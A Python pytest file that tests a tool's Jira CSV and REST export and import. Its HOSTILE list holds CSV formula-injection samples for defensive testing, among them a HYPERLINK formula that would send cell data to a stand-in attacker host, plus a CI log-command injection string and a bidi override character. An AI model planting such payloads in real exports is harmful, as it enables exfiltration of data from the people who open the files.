"""Ideas to Jira and back: hostile titles come home, no cell is a formula, no file is too large."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cjmine.disclosure.ideas import card
from cjmine.errors import Code, UsageError
from cjmine.ideas.declared import Idea, Metric, Register, Status
from cjmine.ideas.edits import Progress
from cjmine.ideas.jira_export import LABEL, read_issues
from cjmine.reporters.formats import JiraForm
from cjmine.reporters.ideas.issues import issue_files
from cjmine.reporters.language import english
from cjmine.verbs.ideas_register import progressed, project_key

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    'He said "no", twice',
    "one\nline and\r\nanother",
    "a;b|c",
    "##[error]x ::set-output",
    "'=already",
    "\u202eright",
)


def idea(number: int, title: str) -> Idea:
    return Idea(f"M-{number}", title, Metric.DROP_OFF, step=title, journey="order a meter")


def exported(issues: list[dict[str, str]]) -> str:
    """What Jira exports: a column for each label, values quoted where needed."""
    head = ["Summary", "Issue key", "Issue id", "Status", "Labels", "Labels", "Description"]
    sink = io.StringIO()
    writer = csv.writer(sink, lineterminator="\r\n")
    writer.writerow(head)
    for place, one in enumerate(issues):
        first, *more = one["Labels"].split(" ")
        status = one.get("Status", "In Progress")
        cells = [one["Summary"], f"CX-{place + 1}", 10_000 + place, status, first, " ".join(more)]
        writer.writerow([*cells, one["Description"] + "\r\n\r\nand a comment"])
    return sink.getvalue()


def made(ideas: list[Idea]) -> list[dict[str, str]]:
    """The issues that Jira makes of the table."""
    texts = issue_files([card(one) for one in ideas], JiraForm.CSV, "", english())
    return [row for text in texts for row in csv.DictReader(io.StringIO(text))]


def test_keys_and_statuses_come_back_whatever_the_titles() -> None:
    ideas = [idea(number, title) for number, title in enumerate(HOSTILE, 1)]
    issues = made(ideas)
    assert len(issues) == len(ideas)
    found = read_issues(exported(issues), "jira.csv", ideas)
    assert found.news == tuple(
        Progress(one.id, f"CX-{place}", Status.RUNNING) for place, one in enumerate(ideas, 1)
    )
    assert found.others == found.unread == 0


def test_no_cell_is_a_formula_or_breaks_its_line() -> None:
    ideas = [idea(number, title) for number, title in enumerate(HOSTILE, 1)]
    (text,) = issue_files([card(one) for one in ideas], JiraForm.CSV, "", english())
    assert text.count("\n") == len(ideas) + 1
    assert "##[" not in text
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row)


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_titles_come_back(titles: list[str]) -> None:
    ideas = [idea(number, title) for number, title in enumerate(titles, 1)]
    found = read_issues(exported(made(ideas)), "jira.csv", ideas)
    assert [one.id for one in found.news] == [one.id for one in ideas]


def test_a_file_has_at_most_fifty_issues() -> None:
    cards = [card(idea(number, f"Idea {number}")) for number in range(120)]
    tables = issue_files(cards, JiraForm.CSV, "", english())
    assert [len(list(csv.DictReader(io.StringIO(one)))) for one in tables] == [50, 50, 20]
    bodies = [json.loads(one) for one in issue_files(cards, JiraForm.REST, "CX", english())]
    assert [len(one["issueUpdates"]) for one in bodies] == [50, 50, 20]
    assert issue_files([], JiraForm.CSV, "", english()) == ()


def test_a_body_is_that_of_a_bulk_call_with_a_document() -> None:
    (text,) = issue_files([card(idea(1, HOSTILE[0]))], JiraForm.REST, "CX", english())
    (update,) = json.loads(text)["issueUpdates"]
    fields = update["fields"]
    assert fields["project"] == {"key": "CX"} and fields["issuetype"] == {"name": "Task"}
    assert fields["summary"] == HOSTILE[0]
    assert fields["labels"] == ["cjmine", f"{LABEL}M-1", "order-a-meter"]
    document = fields["description"]
    assert (document["type"], document["version"]) == ("doc", 1)
    (paragraph,) = document["content"]
    assert paragraph["type"] == "paragraph"
    assert all(one["type"] == "text" and one["text"] for one in paragraph["content"])


def test_an_issue_is_known_by_its_key_its_label_or_its_title() -> None:
    ideas = [replace(idea(1, "One"), jira="CX-7"), idea(2, "Two"), idea(3, "=Three")]
    text = (
        "Issue key,Status,Summary,Labels\n"
        "CX-7,Done,Renamed,\n"
        f"CX-8,To Do,Renamed too,x {LABEL}M-2\n"
        "CX-9,Waiting for Godot,'=Three,\n"
        "CX-10,Done,Something else,\n"
    )
    found = read_issues(text, "jira.csv", ideas)
    assert found.news == (
        Progress("M-1", None, Status.DONE),
        Progress("M-2", "CX-8", Status.PLANNED),
        Progress("M-3", "CX-9", None),
    )
    assert (found.others, found.unread) == (1, 1)
    semicolons = text.replace(",", ";")
    assert read_issues(semicolons, "jira.csv", ideas) == found


def test_the_text_of_the_register_changes_at_its_ideas_alone() -> None:
    text = "ideas:\n  - id: M-1   # ours\n    title: One\n"
    register = Register((idea(1, "One"),), "ideas.yaml", text)
    new, _ = progressed(register, "Key,Status,Summary\nCX-1,Closed,One\n", "jira.csv")
    assert new == (
        "ideas:\n  - id: M-1   # ours\n    jira: CX-1\n    status: done\n    title: One\n"
    )


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Summary\nx\n",
        "Issue key,Summary\n=1+1,x\n",
        'Issue key,Summary\nCX-1,"x',
        "Issue key,Summary\ncx-1: evil,x\n",
    ],
)
def test_what_is_no_export_is_refused_without_a_value_of_it(text: str) -> None:
    with pytest.raises(UsageError) as refused:
        read_issues(text, "jira.csv", [idea(1, "x")])
    assert refused.value.problems[0].code is Code.RESULT_FORMAT
    assert "evil" not in str(refused.value) and "1+1" not in str(refused.value)


def test_a_project_is_named_for_bodies_alone() -> None:
    assert project_key(None, is_needed=False) == "" and project_key("CX", is_needed=True) == "CX"
    for written in (None, "cx", "A B"):
        with pytest.raises(UsageError):
            project_key(written, is_needed=True)
